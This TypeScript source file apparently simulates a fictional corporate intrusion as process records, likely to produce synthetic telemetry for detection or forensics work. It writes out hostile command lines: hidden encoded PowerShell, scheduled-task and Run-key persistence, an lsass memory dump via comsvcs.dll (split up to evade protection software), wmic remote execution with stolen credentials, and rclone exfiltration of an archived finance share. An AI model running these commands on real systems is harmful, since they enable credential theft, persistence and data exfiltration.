import { systemAccounts } from "../world/account.ts";
import { type Process, type ProcessStart, startChild } from "../world/process.ts";
import { type Program, renamed } from "../world/program.ts";
import type { World } from "../world/world.ts";
import { lure, traces } from "./adversary.ts";
import type { Cast } from "./cast.ts";

/** The adversary's processes, in the order in which they start. */
export interface Intrusion {
  /** The document, opened out of the mail. */
  readonly word: Process;
  /** What its macro starts. */
  readonly script: Process;
  /** The implant on the victim's workstation, and again with the system's rights. */
  readonly implant: Process;
  readonly elevated: Process;
  readonly discovery: readonly Process[];
  /** Creates the scheduled task. */
  readonly taskCreator: Process;
  /** Writes the memory of lsass.exe to a file. */
  readonly dumper: Process;
  /** Starts a process on the file server. */
  readonly remoteStart: Process;
  readonly onServer: ServerProcesses;
}

export interface ServerProcesses {
  readonly shell: Process;
  readonly archiver: Process;
  /** The renamed copy tool. */
  readonly sender: Process;
}

const TEMP = String.raw`%user%\AppData\Local\Temp`;
/** What the macro hands to the shell; it decodes to a harmless text. */
const ENCODED = Buffer.from("Write-Output 'demo tenant'", "utf16le").toString("base64");
/** Assembled here so that no line of this file looks like the attack to protection software. */
const DUMP = [
  String.raw`C:\Windows\System32\comsvcs.dll,`,
  "MiniDump",
  "724",
  String.raw`C:\ProgramData\~df17.dmp`,
  "full",
];

/** The folders in which the story's files lie; `%user%` is the profile folder. */
export const folders = {
  attachment: String.raw`%user%\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7KQ2M1XD`,
  implant: TEMP,
  dump: String.raw`C:\ProgramData`,
  share: String.raw`D:\Shares\Finance`,
  staging: String.raw`C:\ProgramData\Rigger\cache`,
} as const;

/** All processes of the attack, each started by the one before it as far as that is how it went. */
export function createIntrusion(world: World, cast: Cast): Intrusion {
  const random = world.random("intrusion");
  const { programs, calendar } = world;
  const start = (parent: Process, time: string, program: string, args: string, more: Partial<ProcessStart> = {}) =>
    startChild(parent, { program: programs(program), created: calendar.attackTime(0, time), args, ...more }, random);
  const resident = (name: string) => required(world.residentsOf(cast.victim.device).get(name), name);

  const load = `${pathOf(folders.implant, cast)}\\${traces.implant},Start`;
  const outlook = start(resident("explorer.exe"), "07:31:40", "outlook.exe", "");
  const word = start(
    outlook,
    "09:18:07",
    "winword.exe",
    `/n "${pathOf(folders.attachment, cast)}\\${lure.attachment}" /o ""`,
  );
  const script = start(word, "09:18:41", "powershell.exe", `-NoP -W Hidden -Enc ${ENCODED}`);
  const implant = start(script, "09:19:26", "rundll32.exe", load);
  const shell = start(implant, "09:24:03", "cmd.exe", "/c");
  const taskCreator = start(implant, "09:41:12", "schtasks.exe", taskArguments(load));
  const system = { account: systemAccounts.system, integrity: "System" } as const;
  const elevated = start(resident("svchost.exe"), "09:45:00", "rundll32.exe", load, system);
  return {
    word,
    script,
    implant,
    discovery: [
      shell,
      start(shell, "09:24:05", "whoami.exe", "/all"),
      start(shell, "09:24:31", "nltest.exe", "/dclist:corp.halvern.example"),
      start(shell, "09:25:02", "net.exe", 'group "Domain Admins" /domain'),
      start(shell, "09:25:40", "ipconfig.exe", "/all"),
    ],
    taskCreator,
    elevated,
    dumper: start(elevated, "10:12:36", "rundll32.exe", DUMP.join(" ")),
    remoteStart: start(
      elevated,
      "10:36:18",
      "wmic.exe",
      `/node:hv-fs-01 /user:${cast.stolenAdmin.name} process call create "cmd.exe"`,
    ),
    onServer: serverProcesses(world, cast),
  };
}

function serverProcesses(world: World, { fileServer, stolenAdmin, victim }: Cast): ServerProcesses {
  const random = world.random("intrusion on the server");
  const { programs, calendar } = world;
  const provider = required(world.residentsOf(fileServer).get("wmiprvse.exe"), "wmiprvse.exe");
  const remoteSession = { deviceName: victim.device.shortName, ip: victim.device.ip };
  const rights = { account: stolenAdmin, integrity: "High", remoteSession } as const;
  const start = (parent: Process, time: string, program: Program, args: string) =>
    startChild(parent, { program, created: calendar.attackTime(0, time), args, ...rights }, random);
  const shell = start(provider, "10:36:19", programs("cmd.exe"), "");
  const copyTool = renamed(programs("rclone.exe"), traces.copyTool, folders.staging);
  const archive = `${folders.staging}\\${traces.archive}`;
  return {
    shell,
    archiver: start(shell, "19:04:55", programs("7z.exe"), `a -v512m "${archive}" "${folders.share}"`),
    sender: start(shell, "23:31:08", copyTool, `copy "${folders.staging}" drop:in --include *.7z --transfers 4`),
  };
}

const taskArguments = (load: string) =>
  `/create /tn "${traces.taskName}" /tr "rundll32.exe ${load}" /sc minute /mo 30 /ru SYSTEM /f`;

/** A folder as the victim's processes see it. */
export const pathOf = (folder: string, { victim }: Cast) =>
  folder.replace("%user%", `C:\\Users\\${victim.person.account.name}`);

/** What names the implant's content. */
export const IMPLANT_CONTENT = "the implant";

function required(process: Process | undefined, name: string): Process {
  if (process === undefined) throw new RangeError(`${name} does not run there.`);
  return process;
}

/** The value that starts the implant when the victim signs in. */
export function runValue(cast: Cast) {
  return {
    key: `HKEY_CURRENT_USER\\${cast.victim.person.account.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`,
    name: traces.runValue,
    data: `rundll32.exe ${pathOf(folders.implant, cast)}\\${traces.implant},Start`,
  };
}
